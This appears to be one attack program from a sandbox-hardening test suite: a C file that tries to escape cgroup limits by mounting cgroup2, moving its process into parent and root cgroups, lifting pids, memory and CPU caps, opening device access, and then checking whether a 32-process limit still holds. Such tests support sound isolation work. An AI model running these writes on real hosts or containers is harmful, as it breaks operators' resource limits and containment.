/* cgroup_tamper: see attack.toml for the technique. Defanged: bounded loops, reads and harmless markers only. */
#define _GNU_SOURCE
#pragma GCC diagnostic ignored "-Wformat-truncation" /* truncated paths are fine here */
#include <stdio.h>
#include <stdlib.h>
#include <stdarg.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <errno.h>
#include <dirent.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/syscall.h>

/* ---- shared preamble (copied into each attack: one source file per attack) ---- */
static const char *NONCE = "no-nonce";
static long out_budget = 40000; /* file contents printed, at most */

/* stdout goes through a byte cap (56 KB, reports up to 64 KB) so the run never hits the 64K output limit */
static long out_total;
static ssize_t cap_write(void *c, const char *buf, size_t n)
{
    (void)c;
    int is_report = memmem(buf, n, "GAUNTLET-REPORT", 15) != NULL;
    if (out_total + (long)n <= 56000 || (is_report && out_total + (long)n <= 64000)) {
        size_t off = 0;
        while (off < n) { ssize_t w = write(1, buf + off, n - off); if (w <= 0) break; off += w; }
        out_total += n;
    }
    return n;
}
__attribute__((constructor)) static void cap_stdout(void)
{
    cookie_io_functions_t io = {0, cap_write, 0, 0};
    FILE *f = fopencookie(NULL, "w", io);
    if (f) { setvbuf(f, NULL, _IOLBF, 0); stdout = f; }
}

__attribute__((unused)) static void report(int escaped, const char *fmt, ...)
{
    va_list ap;
    fflush(stdout);
    printf("GAUNTLET-REPORT %s %s ", NONCE, escaped ? "escaped" : "denied");
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    printf("\n");
    fflush(stdout);
}

/* Print up to max bytes of buf, non-printables as '.', within the global output budget. */
__attribute__((unused)) static void show(const char *buf, long n, long max)
{
    if (n > max) n = max;
    if (n > out_budget) n = out_budget;
    if (n < 0) n = 0;
    out_budget -= n;
    for (long i = 0; i < n; i++) {
        unsigned char c = (unsigned char)buf[i];
        putchar((c >= 32 && c < 127) || c == '\n' ? c : '.');
    }
    putchar('\n');
    fflush(stdout);
}

/* Open and read a path; print what came back. Returns bytes read, or -errno. */
__attribute__((unused)) static long dump_path_at(int dirfd, const char *path, long max)
{
    int fd = openat(dirfd, path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
    if (fd < 0) {
        int e = errno;
        printf("open %s: %s\n", path, strerror(e));
        return -e;
    }
    char buf[4096];
    long n = read(fd, buf, sizeof buf);
    int e = errno;
    close(fd);
    if (n < 0) {
        printf("read %s: %s\n", path, strerror(e));
        return -e;
    }
    printf("READ %s (%ld bytes): ", path, n);
    show(buf, n, max);
    return n;
}
__attribute__((unused)) static long dump_path(const char *path, long max) { return dump_path_at(AT_FDCWD, path, max); }
/* ---- end of preamble ---- */

/* F18: cgroup tampering. Reads /proc/self/cgroup, then for every hierarchy and every plausible mount
 * point writes its own pid into the parent's and root's cgroup.procs/tasks, raises pids.max,
 * memory.max, memory.limit_in_bytes and cpu.max to "max"/-1, and opens devices.allow. Then it tests
 * whether the pids limit still holds: up to 48 threads (limit 32) each sleeping 300 ms; a raised or
 * escaped limit shows as peak_pids above the limit (resources oracle). */
#include <pthread.h>
#include <sys/mount.h>
static int esc;
static void w(const char *p, const char *v)
{
    int fd = open(p, O_WRONLY);
    if (fd < 0) { if (errno != ENOENT) printf("open %s: %s\n", p, strerror(errno)); return; }
    long n = write(fd, v, strlen(v)); int e = errno; close(fd);
    printf("write %s := %s: %s\n", p, v, n > 0 ? "OK" : strerror(e));
    if (n > 0) { esc++; report(1, "cgroup-write %s", p); }
}
static void *sleeper(void *a) { (void)a; usleep(300000); return 0; }
int main(int argc, char **argv)
{
    if (argc > 1) NONCE = argv[1];
    dump_path("/proc/self/cgroup", 600);
    char pid[32]; snprintf(pid, sizeof pid, "%d", getpid());
    const char *bases[] = {"/sys/fs/cgroup", "/sys/fs/cgroup/unified", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory",
                           "/sys/fs/cgroup/cpu", "/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup/devices", "/sys/fs/cgroup/systemd", "/tmp/gcgv2"};
    mkdir("/tmp/gcgv2", 0755);
    if (mount("cgroup2", "/tmp/gcgv2", "cgroup2", 0, NULL) == 0) { printf("MOUNTED cgroup2\n"); report(1, "mount-cgroup2"); esc++; }
    else printf("mount cgroup2: %s\n", strerror(errno));
    FILE *f = fopen("/proc/self/cgroup", "r");
    char line[512], rels[16][400]; int nrel = 0;
    while (f && fgets(line, sizeof line, f) && nrel < 16) {
        char *p = strrchr(line, ':'); if (!p) continue; p++;
        p[strcspn(p, "\n")] = 0; snprintf(rels[nrel++], 400, "%s", p);
    }
    if (f) fclose(f);
    const char *files[][2] = {{"pids.max", "max"}, {"memory.max", "max"}, {"memory.high", "max"}, {"memory.swap.max", "max"},
        {"memory.limit_in_bytes", "-1"}, {"memory.memsw.limit_in_bytes", "-1"}, {"cpu.max", "max"}, {"cpu.cfs_quota_us", "-1"},
        {"devices.allow", "a"}, {"cgroup.subtree_control", "+pids"}, {"cgroup.max.descendants", "max"}};
    for (unsigned b = 0; b < sizeof bases / sizeof *bases; b++) {
        for (int r = -1; r < nrel; r++) {
            char dir[900], p[1000];
            snprintf(dir, sizeof dir, "%s%s", bases[b], r < 0 ? "" : rels[r]);
            for (unsigned i = 0; i < sizeof files / sizeof *files; i++) { snprintf(p, sizeof p, "%s/%s", dir, files[i][0]); w(p, files[i][1]); }
            /* move to the parent and the root */
            char par[900]; snprintf(par, sizeof par, "%s", dir);
            for (int up = 0; up < 8; up++) {
                snprintf(p, sizeof p, "%s/cgroup.procs", par); w(p, pid);
                snprintf(p, sizeof p, "%s/tasks", par); w(p, pid);
                char *s = strrchr(par, '/'); if (!s || s == par) break; *s = 0;
            }
        }
    }
    dump_path("/proc/self/cgroup", 600);
    /* does the pids limit still hold? */
    pthread_t t[48]; int made = 0;
    for (int i = 0; i < 48; i++) if (pthread_create(&t[i], 0, sleeper, 0) == 0) made++; else break;
    printf("threads created: %d of 48 (limit 32 processes)\n", made);
    for (int i = 0; i < made; i++) pthread_join(t[i], 0);
    if (!esc) report(0, "cgroup-tamper");
    usleep(400000);
    return 0;
}
